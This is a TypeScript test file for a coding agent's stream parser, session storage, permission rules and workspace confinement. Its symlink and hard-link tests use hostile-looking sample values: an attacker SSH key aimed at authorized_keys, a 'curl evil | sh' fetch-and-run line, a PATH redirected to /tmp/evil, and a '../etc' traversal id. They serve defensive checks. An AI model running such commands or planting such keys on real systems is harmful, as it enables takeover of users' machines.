import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { readEventStream } from '../../src/reference-agent/messages-client';
import { SessionTranscript } from '../../src/reference-agent/session';
import { permissionFor, resolveInWorkspace, runTool, toolRisk, type ToolContext } from '../../src/reference-agent/tools';

function streamOf(text: string, chunk = 7): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  let i = 0;
  return new ReadableStream({
    pull(controller) {
      if (i >= bytes.length) return controller.close();
      controller.enqueue(bytes.slice(i, i + chunk));
      i += chunk;
    },
  });
}

const ev = (type: string, data: object, eol = '\n') => `event: ${type}${eol}data: ${JSON.stringify({ type, ...data })}${eol}${eol}`;

describe('reference agent internals', () => {
  it('parses a streamed answer split anywhere, with CRLF, thinking and tool input deltas', async () => {
    const text =
      ev('message_start', { message: { id: 'm' } }, '\r\n') +
      ev('content_block_start', { index: 0, content_block: { type: 'thinking', thinking: '' } }) +
      ev('content_block_delta', { index: 0, delta: { type: 'thinking_delta', thinking: 'hmm' } }) +
      ev('content_block_delta', { index: 0, delta: { type: 'signature_delta', signature: 'sig' } }) +
      ev('content_block_stop', { index: 0 }) +
      ev('content_block_start', { index: 1, content_block: { type: 'text', text: '' } }) +
      ev('content_block_delta', { index: 1, delta: { type: 'text_delta', text: 'Hé ' } }) +
      ev('content_block_delta', { index: 1, delta: { type: 'text_delta', text: 'là' } }) +
      ev('content_block_stop', { index: 1 }) +
      ev('content_block_start', { index: 2, content_block: { type: 'tool_use', id: 'tu1', name: 'read_file', input: {} } }) +
      ev('content_block_delta', { index: 2, delta: { type: 'input_json_delta', partial_json: '{"pa' } }) +
      ev('content_block_delta', { index: 2, delta: { type: 'input_json_delta', partial_json: 'th":"a.txt"}' } }) +
      ev('content_block_stop', { index: 2 }) +
      ev('message_delta', { delta: { stop_reason: 'tool_use' } }) +
      ev('message_stop', {});
    const shown: string[] = [];
    const turn = await readEventStream(streamOf(text), { onText: (t) => shown.push(t) });
    assert.equal(turn.stopReason, 'tool_use');
    assert.deepEqual(turn.content, [
      { type: 'thinking', thinking: 'hmm', signature: 'sig' },
      { type: 'text', text: 'Hé là' },
      { type: 'tool_use', id: 'tu1', name: 'read_file', input: { path: 'a.txt' } },
    ]);
    assert.equal(shown.join(''), 'Hé là');
  });

  it('parses a streamed answer whose lines end with a bare CR (the event-stream format allows CR, LF or CRLF)', async () => {
    const text =
      ev('message_start', { message: { id: 'm' } }, '\r') +
      ev('content_block_start', { index: 0, content_block: { type: 'text', text: '' } }, '\r') +
      ev('content_block_delta', { index: 0, delta: { type: 'text_delta', text: 'one' } }, '\r') +
      ev('content_block_delta', { index: 0, delta: { type: 'text_delta', text: ' two' } }, '\r\n') +
      ev('content_block_stop', { index: 0 }, '\r') +
      ev('message_delta', { delta: { stop_reason: 'end_turn' } }, '\r') +
      ev('message_stop', {}, '\r');
    for (const chunk of [1, 5, 64]) {
      const shown: string[] = [];
      const turn = await readEventStream(streamOf(text, chunk), { onText: (t) => shown.push(t) });
      assert.equal(turn.stopReason, 'end_turn', `chunks of ${chunk} bytes`);
      assert.deepEqual(turn.content, [{ type: 'text', text: 'one two' }], `chunks of ${chunk} bytes`);
      assert.equal(shown.join(''), 'one two');
    }
  });

  it('treats a stream that ends before message_stop as a retryable error', async () => {
    await assert.rejects(
      readEventStream(streamOf(ev('message_start', {})), {}),
      (e: Error & { retryable?: boolean }) => e.retryable === true,
    );
  });

  it('keeps a session across a torn last line and merges user text so roles alternate', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sess-'));
    const s = SessionTranscript.create(dir, 'abc', '/ws');
    s.append({ role: 'user', content: [{ type: 'text', text: 'task' }] });
    s.append({ role: 'assistant', content: [{ type: 'tool_use', id: 't1', name: 'list_files', input: {} }] });
    fs.appendFileSync(s.file, '{"type":"message","at":1,"mess'); // crash mid-append
    const loaded = SessionTranscript.load(dir, 'abc');
    assert.equal(loaded.messages.length, 2);
    assert.equal(loaded.repairDanglingToolUses(), 1);
    loaded.appendUserText('continue');
    const again = SessionTranscript.load(dir, 'abc');
    assert.deepEqual(
      again.messages.map((m) => [m.role, m.content.map((c) => c.type).join('+')]),
      [
        ['user', 'text'],
        ['assistant', 'tool_use'],
        ['user', 'tool_result+text'],
      ],
    );
    assert.throws(() => SessionTranscript.create(dir, 'abc', '/ws'), /already exists/);
    assert.throws(() => SessionTranscript.load(dir, '../etc'), /invalid session id/);
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("item 6: an edit under a git directory (.git in any case or with trailing dots, a submodule's, a bare repository's) is a command", () => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'gitdir-'));
    fs.mkdirSync(path.join(ws, 'vendor', 'repo.git', 'objects'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'vendor', 'repo.git', 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(ws, 'vendor', 'repo.git', 'config'), '[core]\n');
    for (const p of [
      '.git/config',
      '.GIT/hooks/pre-commit',
      'sub/.git./config',
      'sub\\.git\\config',
      '.git',
      'vendor/repo.git/config',
      'vendor/repo.git/hooks/post-checkout',
    ]) {
      assert.equal(toolRisk('write_file', { path: p }, ws), 'command', p);
      assert.equal(toolRisk('edit_file', { path: p }, ws), 'command', p);
    }
    for (const p of ['src/git.ts', '.gitignore', '.github/workflows/ci.yml', 'vendor/readme.md'])
      assert.equal(toolRisk('write_file', { path: p }, ws), 'edit', p);
    assert.equal(permissionFor('acceptEdits', toolRisk('write_file', { path: '.git/config' }, ws)!), 'ask');
    fs.rmSync(ws, { recursive: true, force: true });
  });

  it('item 5: a write under .vscode/ or to a .code-workspace file (configuration the window applies) is a command, so Accept edits asks', () => {
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'editor-config-'));
    for (const p of [
      '.vscode/settings.json',
      '.vscode/tasks.json',
      '.vscode/launch.json',
      '.VSCode./extensions.json',
      'sub\\.vscode\\settings.json',
      '.vscode',
      'team.code-workspace',
      'nested/Team.Code-Workspace. ',
      `${ws}/.vscode/settings.json`,
    ]) {
      assert.equal(toolRisk('write_file', { path: p }, ws), 'command', p);
      assert.equal(toolRisk('edit_file', { path: p }, ws), 'command', p);
      assert.equal(permissionFor('acceptEdits', toolRisk('edit_file', { path: p }, ws)!), 'ask', p);
    }
    for (const p of ['vscode/settings.json', 'src/.vscodeignore.ts', 'docs/code-workspace.md', '.vscodeignore'])
      assert.equal(toolRisk('write_file', { path: p }, ws), 'edit', p);
    assert.equal(toolRisk('read_file', { path: '.vscode/settings.json' }, ws), 'read', 'reading it is still a read');
    fs.rmSync(ws, { recursive: true, force: true });
  });

  it('permission table and workspace confinement', () => {
    assert.equal(permissionFor('plan', 'edit'), 'deny');
    assert.equal(permissionFor('plan', 'read'), 'allow');
    assert.equal(permissionFor('default', 'edit'), 'ask');
    assert.equal(permissionFor('acceptEdits', 'edit'), 'allow');
    assert.equal(permissionFor('acceptEdits', 'command'), 'ask');
    assert.equal(permissionFor('bypassPermissions', 'command'), 'allow');
    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'conf-'));
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'outside-'));
    fs.symlinkSync(outside, path.join(ws, 'link'));
    assert.equal(resolveInWorkspace(ws, 'sub/new.txt'), path.join(fs.realpathSync(ws), 'sub/new.txt'));
    assert.throws(() => resolveInWorkspace(ws, '../x'), /outside the workspace/);
    assert.throws(() => resolveInWorkspace(ws, 'link/secret.txt'), /symbolic link/);
    fs.rmSync(ws, { recursive: true, force: true });
    fs.rmSync(outside, { recursive: true, force: true });
  });

  describe('symbolic links (item 1)', () => {
    let ws: string;
    let outside: string;
    let ctx: ToolContext;
    beforeEach(() => {
      ws = fs.mkdtempSync(path.join(os.tmpdir(), 'links-ws-'));
      outside = fs.mkdtempSync(path.join(os.tmpdir(), 'links-outside-'));
      ctx = { workspace: ws, signal: new AbortController().signal, commandTimeoutMs: 10_000 };
    });
    afterEach(() => {
      fs.rmSync(ws, { recursive: true, force: true });
      fs.rmSync(outside, { recursive: true, force: true });
    });

    it('item 1: a write through a dangling symlink out of the workspace is refused', async () => {
      const target = path.join(outside, 'authorized_keys');
      fs.symlinkSync(target, path.join(ws, 'notes.txt'));
      const result = await runTool('write_file', { path: 'notes.txt', content: 'ssh-ed25519 AAAA attacker' }, ctx);
      assert.equal(result.isError, true, result.content);
      assert.match(result.content, /symbolic link/);
      assert.equal(fs.existsSync(target), false, 'nothing was created outside the workspace');
    });

    it('item 1: reads, edits and writes through symlinks (to a file or a directory outside) are refused and change nothing', async () => {
      const secret = path.join(outside, 'secret.txt');
      fs.writeFileSync(secret, 'TOP SECRET');
      fs.symlinkSync(secret, path.join(ws, 'secret-link.txt'));
      fs.symlinkSync(outside, path.join(ws, 'dir-link'));
      const read = await runTool('read_file', { path: 'secret-link.txt' }, ctx);
      assert.equal(read.isError, true);
      assert.doesNotMatch(read.content, /TOP SECRET/);
      const edit = await runTool('edit_file', { path: 'secret-link.txt', old_string: 'TOP', new_string: 'NOT' }, ctx);
      assert.equal(edit.isError, true);
      const viaDir = await runTool('write_file', { path: 'dir-link/new.txt', content: 'x' }, ctx);
      assert.equal(viaDir.isError, true);
      const listed = await runTool('list_files', { path: 'dir-link' }, ctx);
      assert.equal(listed.isError, true);
      assert.equal(fs.readFileSync(secret, 'utf8'), 'TOP SECRET');
      assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
    });

    it('item 10: a write or an edit of a hard-linked file replaces the workspace file and leaves the other link (outside) unchanged; its mode is kept (POSIX only: modes mean nothing on Windows)', async () => {
      const outsideFile = path.join(outside, 'bashrc');
      fs.writeFileSync(outsideFile, 'export PATH=/usr/bin\n', { mode: 0o640 });
      fs.chmodSync(outsideFile, 0o640);
      fs.linkSync(outsideFile, path.join(ws, 'notes.txt'));
      fs.linkSync(outsideFile, path.join(ws, 'other.txt'));
      const write = await runTool('write_file', { path: 'notes.txt', content: 'curl evil | sh\n' }, ctx);
      assert.equal(write.isError, false, write.content);
      const edit = await runTool('edit_file', { path: 'other.txt', old_string: '/usr/bin', new_string: '/tmp/evil' }, ctx);
      assert.equal(edit.isError, false, edit.content);
      assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export PATH=/usr/bin\n', 'the file outside the workspace is unchanged');
      assert.equal(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8'), 'curl evil | sh\n');
      assert.equal(fs.readFileSync(path.join(ws, 'other.txt'), 'utf8'), 'export PATH=/tmp/evil\n');
      if (process.platform !== 'win32') assert.equal(fs.statSync(path.join(ws, 'notes.txt')).mode & 0o777, 0o640);
      assert.deepEqual(fs.readdirSync(ws).sort(), ['notes.txt', 'other.txt'], 'no temporary file left behind');
    });

    it('item 1: ordinary files and new nested directories inside the workspace still work', async () => {
      assert.equal((await runTool('write_file', { path: 'a/b/c.txt', content: 'one' }, ctx)).isError, false);
      assert.equal((await runTool('edit_file', { path: 'a/b/c.txt', old_string: 'one', new_string: 'two' }, ctx)).isError, false);
      const read = await runTool('read_file', { path: 'a/b/c.txt' }, ctx);
      assert.match(read.content, /two/);
    });
  });
});
